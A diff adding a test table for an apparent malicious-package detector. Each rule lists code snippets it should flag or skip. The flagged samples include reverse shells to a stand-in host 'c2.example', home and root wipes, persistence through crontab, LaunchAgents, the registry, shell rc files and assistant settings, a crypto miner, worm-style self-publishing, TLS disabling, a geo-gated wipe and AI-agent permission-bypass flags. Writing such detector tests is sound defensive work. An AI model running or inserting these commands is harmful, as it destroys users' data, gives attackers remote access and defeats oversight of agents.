@@ -1,0 +1,212 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is code to be looked at
+import { testTable } from './table.ts';
+
+const addresses = Array.from({ length: 10 }, (_, at) => `"0x${at.toString(16).repeat(40)}"`).join(',');
+
+testTable({
+  'agent-flags': {
+    hits: [
+      [
+        "Nx's",
+        "spawn('claude', ['--dangerously-skip-permissions', '-p', prompt])",
+        '--dangerously-skip-permissions',
+      ],
+      ['of another', "'gemini --yolo'", '--yolo'],
+    ],
+    misses: [
+      ['a longer one', "'--yolo-mode'"],
+      ['in a comment', '// --yolo\nf()'],
+    ],
+  },
+  'destroys-home': {
+    hits: [
+      ['rm', "exec('rm -rf ~')"],
+      ['rm of everything in it', "exec('rm -rf ~/*')"],
+      ['by its variable', 'exec(\'rm -rf "$HOME"\')'],
+      ['the root', "exec('rm -rf / --no-preserve-root')"],
+      ['by node', 'fs.rmSync(os.homedir(), { recursive: true })'],
+      ['on Windows', "exec('rd /s /q %USERPROFILE%')"],
+    ],
+    misses: [
+      ['a folder below it', "exec('rm -rf ~/.cache/a')"],
+      ['a folder by its variable', 'exec(\'rm -rf "$HOME/.a"\')'],
+      ['another folder', "exec('rm -rf /tmp/a')"],
+      ['joined', "fs.rmSync(path.join(os.homedir(), '.a'))"],
+    ],
+  },
+  persistence: {
+    hits: [
+      ['of macOS', "join(home, 'Library', 'LaunchAgents', 'a.plist')"],
+      ["CanisterWorm's", "exec('systemctl --user enable a.service')"],
+      ['crontab', "exec('(crontab -l; echo x) | crontab -')"],
+      [
+        'of Windows',
+        "exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v a')",
+      ],
+      ['a shell', "fs.appendFileSync(join(home, '.bashrc'), line)"],
+      ['an assistant', "fs.writeFileSync('.claude/settings.json', hooks)", '.claude/settings.json'],
+      ['an editor', "fs.writeFileSync('.vscode/tasks.json', tasks)", '.vscode/tasks.json'],
+    ],
+    misses: [
+      ["a command's help", "console.log('add it to ~/.bashrc')"],
+      ['reading them', "fs.readFileSync(join(home, '.zshrc'))"],
+      ['listing', "exec('crontab -l')"],
+      ['a word', 'startup(); const a = autostart;'],
+    ],
+  },
+  'reverse-shell': {
+    hits: [
+      ['bash', "exec('bash -i >& /dev/tcp/c2.example/4444 0>&1')"],
+      ['nc', "exec('nc -e /bin/sh c2.example 4444')"],
+      ['fifo', "exec('mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc c2.example 1 > /tmp/f')"],
+      [
+        'node',
+        "const s = net.connect(1, h); const sh = spawn('/bin/sh', []); s.pipe(sh.stdin); sh.stdout.pipe(s);",
+      ],
+    ],
+    misses: [
+      ['a pipe to a child', "input.pipe(child.stdin); child = spawn('gzip'); net.connect(1)"],
+      ['nc to look', "exec('nc -z localhost 80')"],
+    ],
+  },
+  miner: {
+    hits: [
+      ["rspack's", "spawn('./xmrig', ['--donate-level', '1'])", 'xmrig'],
+      ['a pool', "'stratum+tcp://a.example:3333'", 'stratum+tcp:'],
+    ],
+    misses: [['a word', "'coinhive'"]],
+  },
+  'self-publish': {
+    hits: [
+      ["a worm's", "execSync('npm publish --access public', { cwd })"],
+      ['by its words', "spawn('npm', ['publish', dir])"],
+      ['in a folder', 'exec(`cd ${dir} && npm publish`)'],
+    ],
+    misses: [
+      ['help', "console.log('Run npm publish')"],
+      ['another event', "emitter.emit('publish', a); spawn('npm', ['install'])"],
+    ],
+  },
+  'tls-off': {
+    hits: [
+      ["Mastra's", "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'"],
+      ['with brackets', "process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = 0"],
+      ['of a request', 'https.get({ rejectUnauthorized: false })'],
+      ['minified', '{rejectUnauthorized:!1}'],
+    ],
+    misses: [
+      ['asked', "if (process.env.NODE_TLS_REJECT_UNAUTHORIZED === '0') warn()"],
+      ['on', '{ rejectUnauthorized: true }'],
+      ['in a comment', '// rejectUnauthorized: false\nf()'],
+    ],
+  },
+  'deletes-itself': {
+    hits: [
+      ["axios's", 'fs.unlink(__filename, () => {})'],
+      ['at once', 'fs.unlinkSync(process.argv[1])'],
+      ['a module', 'rmSync(fileURLToPath(import.meta.url))'],
+      ['of a batch file', 'exec(\'del "%~f0"\')'],
+    ],
+    misses: [
+      ['another file', 'fs.unlinkSync(tmp)'],
+      ['a path from it', 'path.dirname(__filename)'],
+    ],
+  },
+  'rewrites-manifest': {
+    hits: [
+      ['directly', "fs.writeFileSync(path.join(__dirname, 'package.json'), s)"],
+      [
+        'by a variable',
+        "const p = path.join(d, 'package.json');\nconst j = JSON.parse(read(p));\nfs.writeFileSync(p, s)",
+      ],
+    ],
+    misses: [
+      ['read', "require('./package.json').version"],
+      ['another file', "const p = join(d, 'package.json'); fs.writeFileSync(q, s)"],
+    ],
+  },
+  detached: {
+    hits: [['a child', 'spawn(a, [], { detached: true, stdio: "ignore" })']],
+    misses: [['not', '{ detached: false }']],
+  },
+  'runs-text': {
+    hits: [
+      ['eval', 'eval(code)'],
+      ['Function', "new Function('a', body)"],
+      ['vm', 'vm.runInNewContext(code)'],
+    ],
+    misses: [
+      ['the global object', "Function('return this')()"],
+      ['with new', 'new Function("return this")()'],
+      ['a require that bundlers do not see', "eval('require')('fs')"],
+      ["an object's", 'model.eval(a); page.$eval(b)'],
+      ['functions', 'a = function(b) {}; f(function (c) {})'],
+    ],
+  },
+  'system-tool': {
+    hits: [
+      ["eslint-config-prettier's", "spawn('rundll32', ['node-gyp.dll,main'])", 'rundll32'],
+      ['with its ending', "exec('mshta.exe http://a.example')", 'mshta.exe'],
+    ],
+    misses: [['a variable', 'const certutilPath = 1']],
+  },
+  'internal-loader': {
+    hits: [
+      ['binding', "process.binding('spawn_sync')", 'process.binding'],
+      ['by brackets', "process['binding']('fs')"],
+      ['the main module', "process.mainModule.require('child_process')"],
+      ['the constructor', "module.constructor._load('fs')"],
+      ['Module', "Module._load('fs')"],
+      ['extensions', "require.extensions['.txt'] = f"],
+    ],
+    misses: [['versions', 'process.versions.node']],
+  },
+  delayed: {
+    hits: [
+      ['ten minutes', 'setTimeout(() => { go() }, 600000)'],
+      ['in factors', 'setTimeout(go, 60 * 60 * 1000)'],
+      ['in a command', "exec('sleep 900 && ./a')"],
+    ],
+    misses: [
+      ['five minutes', 'setTimeout(go, 5 * 60 * 1000)'],
+      ['a second', 'setTimeout(go, 1000)'],
+    ],
+  },
+  'time-or-ci-gate': {
+    hits: [
+      ['a time', 'if (Date.now() > 1767225600000) go()'],
+      ['a date', "if (new Date() >= new Date('2026-01-01')) go()"],
+      ['the other way round', "if (Date.parse('2026-01-01') < Date.now()) go()"],
+    ],
+    misses: [
+      ['an age', 'if (Date.now() - start > 60000) go()'],
+      ['another time', 'if (Date.now() > expires) go()'],
+    ],
+  },
+  'geography-wipe': {
+    hits: [
+      [
+        "node-ipc's",
+        "get('https://api.ipgeolocation.io/ipgeo', (r) => { if (/russia|belarus/.test(r.country_name)) for (const f of fs.readdirSync(d)) fs.writeFileSync(f, '') })",
+      ],
+    ],
+    misses: [
+      ['a list of countries', "module.exports = ['Russia', 'Belarus']"],
+      ['a place alone', "get('https://ipinfo.io', (r) => show(r.country_code === 'RU'))"],
+    ],
+  },
+  'wallet-hook': {
+    hits: [
+      [
+        "chalk's",
+        `if (typeof window.ethereum !== 'undefined') { const f = window.fetch; window.fetch = async (...a) => f(...a); } const to = [${addresses}];`,
+        '10 or more addresses',
+      ],
+    ],
+    misses: [
+      ['a polyfill', 'window.fetch = function () {}'],
+      ['without addresses', 'window.ethereum.request(a); window.fetch = async () => b'],
+      ['a list of addresses', `const tokens = [${addresses}]; window.ethereum.request(a)`],
+    ],
+  },
+});
